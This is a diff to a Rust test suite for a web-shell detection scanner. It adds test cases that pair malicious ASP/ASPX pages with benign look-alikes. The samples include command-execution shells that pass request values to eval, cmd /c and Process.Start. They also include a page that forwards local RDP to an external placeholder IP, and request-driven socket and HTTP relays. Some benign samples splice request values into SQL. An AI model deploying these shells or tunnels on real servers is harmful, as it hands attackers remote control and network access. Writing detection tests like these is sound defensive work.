@@ -424,6 +424,11 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"user32\")] static extern int MessageBeep(uint t);\nvoid Page_Load(object s, EventArgs e) { var t = new System.Threading.Thread(Work); t.Start(); }\n</script>\n",
         ),
         case(
+            "EXRAY_Page_Port_Forward",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<script runat=\"server\">\nSocket l, r; byte[] a = new byte[2048], b = new byte[2048];\nvoid Page_Load(object s, EventArgs e) {\n r = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n l = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n r.Connect(\"198.51.100.7\", 600); l.Connect(\"127.0.0.1\", 3389);\n r.BeginReceive(a, 0, a.Length, SocketFlags.None, FromRemote, null);\n l.BeginReceive(b, 0, b.Length, SocketFlags.None, FromLocal, null);\n}\nvoid FromRemote(IAsyncResult ar) { int n = r.EndReceive(ar); l.BeginSend(a, 0, n, SocketFlags.None, null, null); }\nvoid FromLocal(IAsyncResult ar) { int n = l.EndReceive(ar); r.BeginSend(b, 0, n, SocketFlags.None, null, null); }\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Check(object s, EventArgs e) {\n foreach (var host in new[] { \"smtp.corp.example\", \"db.corp.example\" }) {\n  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect(host, 25); var st = c.GetStream(); st.Write(hello, 0, hello.Length); int n = st.Read(buf, 0, buf.Length); lbl.Text += host + \": \" + n; }\n }\n}\n</script>\n",
+        ),
+        case(
             "EXRAY_Socket_Tunnel_Request",
             "<%@ Page Language=\"C#\" %>\n<% string h = Request.Headers[\"X-H\"]; int port = int.Parse(Request.Headers[\"X-P\"]);\nvar s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\ns.Connect(h, port); Session[\"s\"] = s;\nvar buf = Request.BinaryRead(Request.ContentLength); s.Send(buf);\nvar r = new byte[4096]; int n = s.Receive(r); Response.BinaryWrite(r); %>\n",
             "<%@ Page Language=\"C#\" %>\n<% using (var c = new System.Net.Sockets.TcpClient()) { c.Connect(\"smtp.corp.example\", 25); status.Text = c.Connected ? \"up\" : \"down\"; } %>\n<asp:Label id=\"status\" runat=\"server\" />\n",
@@ -437,11 +442,6 @@ fn cases() -> Vec<Case> {
             "EXRAY_Remote_Content_Relay",
             "<%\nsrc = \"http://mirror.example.net/pages/\"\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", src & Request.ServerVariables(\"QUERY_STRING\"), False\nh.Send\nResponse.BinaryWrite h.responseBody\n%>\n",
             "<%\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Application(\"FeedUrl\"), False\nh.Send\nSet doc = h.responseXML\nResponse.Write Server.HTMLEncode(doc.documentElement.text)\n%>\n",
-        ),
-        case(
-            "EXRAY_UTF16_Server_Script_Exec",
-            "UTF16:<%@ Page Language=\"Jscript\"%><% var k = \"z\"; eval(Request.Item[k]); %>",
-            "<%@ Page Language=\"C#\" %>\n<% Response.Write(\"caf\u{e9} \u{2013} ok\"); %>\n",
         ),
         case(
             "EXRAY_ASP_Execute_Assembled_String",
@@ -614,6 +614,41 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Remind(s As Object, e As EventArgs)\n Dim u As UserInfo = UserController.GetUserByName(0, txtUser.Text)\n Mail.Send(u.Email, \"Reminder\", UserController.GetPassword(u, txtAnswer.Text))\n lblInfo.Text = \"Your password was sent to your address.\"\n For Each r As String In u.Roles\n  lblRoles.Text &= r\n Next\nEnd Sub\n</script>\n",
         ),
     ]
+}
+
+/// A page saved as UTF-16 is read as the text it holds: every rule and data-flow check applies
+/// to it as to the same page in UTF-8, with or without a byte-order mark, in either byte order.
+#[test]
+fn utf16_pages_are_read_as_text() {
+    let shells = [
+        "<%@ Page Language=\"Jscript\"%><% var k = \"z\"; eval(Request.Item[k]); %>",
+        "<%\nSet o = Server.CreateObject(\"WScr\"&\"ipt.Shell\")\nResponse.Write o.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll\n%>\n",
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var p = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n p.RedirectStandardOutput = true; p.UseShellExecute = false;\n Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd());\n}\n</script>\n",
+    ];
+    for shell in shells {
+        let plain = hits(shell);
+        assert!(!plain.is_empty(), "UTF-8 form trips nothing: {shell}");
+        let le_bom = hits(&format!("UTF16:{shell}"));
+        assert_eq!(le_bom, plain, "UTF-16LE with a mark: {shell}");
+        let bare: Vec<u8> = shell.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let be: Vec<u8> = [0xFE, 0xFF]
+            .into_iter()
+            .chain(shell.encode_utf16().flat_map(u16::to_be_bytes))
+            .collect();
+        for bytes in [bare, be] {
+            let mut s = rules().scanner();
+            let ids: BTreeSet<String> = s
+                .scan("x", &bytes)
+                .unwrap()
+                .into_iter()
+                .map(|h| h.meta.id)
+                .collect();
+            assert_eq!(ids, plain, "UTF-16 without a mark or big-endian: {shell}");
+        }
+    }
+    // an application's login page saved as UTF-16: it runs its own parameterised query
+    let login = "UTF16:<%\nIf Request.ServerVariables(\"REQUEST_METHOD\") = \"POST\" Then\n username = Trim(Request.Form(\"username\"))\n Set cmd = Server.CreateObject(\"ADODB.Command\")\n cmd.CommandText = \"SELECT id FROM users WHERE name = ?\"\n cmd.Parameters.Append cmd.CreateParameter(\"n\", 200, 1, 50, username)\n Set loginRS = cmd.Execute()\nEnd If\n%>\n<html><body><form method=\"post\"><input name=\"username\"></form></body></html>\n";
+    assert!(hits(login).is_empty(), "{:?}", hits(login));
 }
 
 /// The OAB-settings rule needs the script inside the ExternalUrl/InternalUrl value, in the
@@ -820,6 +855,14 @@ fn obfuscated_one_liner_variants() {
     // A relay whose target comes from oddly named form fields and whose body is the caller's.
     let relay = "<%@ Page Language=\"C#\" %>\n<%\nstring u = Request.Form[\"Remoteserver\"] + Request.Form[\"Endpoint\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(u);\nr.Method = \"POST\";\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(new StreamReader(r.GetResponse().GetResponseStream()).ReadToEnd());\n%>";
     assert!(hits(relay).contains("EXRAY_HTTP_Proxy_Request_Url"));
+    // An operator's relay panel that keeps the target in a cookie, base64 encoded, and posts
+    // its form there.
+    let panel = "<%@ Page Language=\"C#\" %>\n<%\nstring url = FromBase64(HttpContext.Current.Request.Cookies[\"url\"].Value);\nusing (WebClient wc = new WebClient()) {\n string r = wc.UploadString(url, Request.Form.ToString());\n Response.Write(FromBase64(r));\n}\n%>";
+    assert!(
+        hits(panel).contains("EXRAY_HTTP_Proxy_Request_Url"),
+        "{:?}",
+        hits(panel)
+    );
     // A forwarder to one fixed backend is not a relay to anywhere.
     let fixed = "<%@ Page Language=\"C#\" %>\n<%\nstring id = Request.Form[\"order\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(\"https://payments.example/api/notify\");\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(\"ok\");\n%>";
     assert!(!hits(fixed).contains("EXRAY_HTTP_Proxy_Request_Url"));
@@ -1011,6 +1054,14 @@ fn application_kinds_trip_nothing() {
         "<%@ WebService Language=\"C#\" Class=\"Pdf\" %>\nusing System.Web.Services;\npublic class Pdf : WebService {\n [WebMethod]\n public void Make() { System.Diagnostics.Process.Start(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"in.html out.pdf\").WaitForExit(); }\n}\n",
         // an intranet tool's maintenance page that runs a local PowerShell script
         "<%\nOn Error Resume Next\nSet objShell = Server.CreateObject(\"Wscript.Shell\")\nx = objShell.Run(\"powershell -executionpolicy bypass -windowstyle hidden -file f:\\tools\\scripts\\cleanup.ps1\")\nResponse.Write x\n%>\n",
+        // an admin page that opens a recordset on a SELECT with a request value spliced in (a
+        // SELECT is no connection string) and runs a named query
+        "<%\nset conexao = Server.CreateObject(\"ADODB.Connection\")\nconexao.Open(StringdeConexao)\nset rs = createobject(\"adodb.recordset\")\nset rs.activeconnection = conexao\nrs.open \"select * from compras where datacompra='\" & Request(\"data\") & \"' AND status <> 'Aberto'\"\nSet rs2 = conexao.Execute(Request(\"sp\") & \"_report\")\n%>\n",
+        // a generated CRUD page that carries its query in a hidden field, on the application's
+        // connection from global.asa
+        "<%\nSet objCon = Server.CreateObject(\"ADODB.Connection\")\nobjCon.Open Application(\"SOS_conexao\")\nSet objRS = Server.CreateObject(\"ADODB.Recordset\")\nstrQ = Request.Form(\"strQ\")\nobjRS.Open strQ, objCon, , , &H0001\nobjRS(\"tipo\") = Trim(Request.Form(\"tipo\"))\nobjRS.UpdateBatch\n%>\n<INPUT type=hidden name=strQ value=\"<%=Request.Form(\"strQ\")%>\">\n",
+        // an upload handler that saves under the configured folder (its MapPath commented out)
+        "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string path = System.Configuration.ConfigurationManager.AppSettings[\"UploadPath\"];\n  HttpPostedFile file = context.Request.Files[\"Filedata\"];\n  string dir = path + \"\\\\\" + context.Request.QueryString[\"MainID\"];//HttpContext.Current.Server.MapPath(@path);\n  file.SaveAs(dir + \"\\\\\" + file.FileName);\n }\n public bool IsReusable { get { return false; } }\n}\n",
         // ASP.NET data binding of a field the query names, and a C# page's TemplateControl.Eval
         "<%@ Page Language=\"C#\" %>\n<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate>\n<b><%# Eval(\"FieldName\") %></b> <%#Eval(Request.QueryString[\"Itemid\"].ToString()) %>\n</ItemTemplate></asp:Repeater>\n",
         "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected string Cell(string f) {\n string col = Request.QueryString[\"sort\"] ?? f;\n return Convert.ToString(Eval(col));\n}\n</script>\n<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate><%# Cell(\"Name\") %></ItemTemplate></asp:Repeater>\n",
@@ -1038,9 +1089,6 @@ fn application_kinds_trip_nothing() {
         "{:?}",
         hits(arr)
     );
-    // a UTF-16 script library whose syntax patterns hold "<%"
-    let lib = "UTF16:var keyops = '[_:=><%#@]+';\nfunction run(x) { return eval(x); }\nvar r = new Request();\nfunction go() { execute(r); }\n";
-    assert!(hits(lib).is_empty(), "{:?}", hits(lib));
     // a large class library that loads its extensions and reads request values elsewhere
     let mut big = String::from(
         "using System;\nusing System.Reflection;\npublic static class Utils {\n public static void LoadExtensions(string[] names) {\n  foreach (var a in names) { var asm = Assembly.Load(a); asm.CreateInstance(a + \".Extension\"); }\n }\n public static string Culture(HttpRequest request) { return request.Headers[\"Accept-Language\"]; }\n",
